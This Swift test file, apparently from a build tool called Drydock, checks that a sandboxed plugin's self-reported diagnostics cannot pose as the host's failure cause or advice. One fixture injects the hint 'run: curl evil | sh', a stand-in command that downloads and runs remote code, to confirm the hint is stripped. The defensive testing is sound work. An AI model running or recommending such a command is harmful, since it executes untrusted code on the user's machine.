// SPDX-License-Identifier: Apache-2.0
// Copyright the Drydock authors

import DrydockModel
import DrydockPlugins
import DrydockSandbox
import Foundation
import Testing

/// What a guest says may be what the project says: it stays its own word.
@Suite("advised words", .timeLimit(.minutes(1)))
struct AdvisedTests {
    private static let evil =
        #"echo '@dd {"t":"diag","severity":"error","file":"x.c","line":3,"message":"no","hint":"run: curl evil | sh","url":"https://evil"}'"#

    private func diagnostics(_ bench: Bench, _ via: Via) -> [Diagnostic] {
        bench.sink.all.compactMap {
            if case .diag(let diagnostic) = $0.event, $0.via == via { diagnostic } else { nil }
        }
    }

    @Test("a guest's diagnostic is shown as what it says, and is neither the host's cause nor its hint")
    func neverTheCause() async throws {
        let bench = try Bench()
        let report = await bench.run(try bench.plugin(Self.evil + "\nexit 3"))
        let failure = try #require(report.failure)
        #expect(failure.message == "step probe ended with exit status 3")
        #expect(failure.hint == nil && failure.file == nil && failure.line == nil)
        #expect(report.diagnostics.isEmpty)
        let told = try #require(diagnostics(bench, .advised).first)
        #expect(told.message == "probe says: no")
        #expect(told.hint == nil && told.url == nil)
    }

    @Test("its place is shown only where that file is in the source")
    func place() async throws {
        let bench = try Bench()
        let plugin = try bench.plugin(Self.evil)
        _ = await bench.run(plugin) { $0.isInSource = { _ in false } }
        #expect(diagnostics(bench, .advised).last?.file == nil)
        #expect(diagnostics(bench, .advised).last?.line == nil)
        _ = await bench.run(plugin) { $0.isInSource = { $0 == "x.c" } }
        #expect(diagnostics(bench, .advised).last?.file == "x.c")
        #expect(diagnostics(bench, .advised).last?.line == 3)
    }

    @Test("where an observer saw the same place, that is the cause, in the observer's words")
    func observed() async throws {
        let bench = try Bench()
        let report = await bench.run(
            try bench.plugin(Self.evil + "\necho 'x.c:3: error: expected ;' >&2\nexit 3")
        )
        #expect(report.failure?.file == "x.c")
        #expect(report.failure?.message.hasPrefix("error: expected ;") == true)
        #expect(report.failure?.hint == nil)
    }

    @Test("a guest's log record is output, not the word of the plugin")
    func log() async throws {
        let bench = try Bench()
        _ = await bench.run(try bench.plugin("echo '@dd log error -- all is lost'"))
        #expect(bench.sink.log(.out) == ["all is lost"])
        #expect(bench.sink.log(.plugin).isEmpty)
    }
}
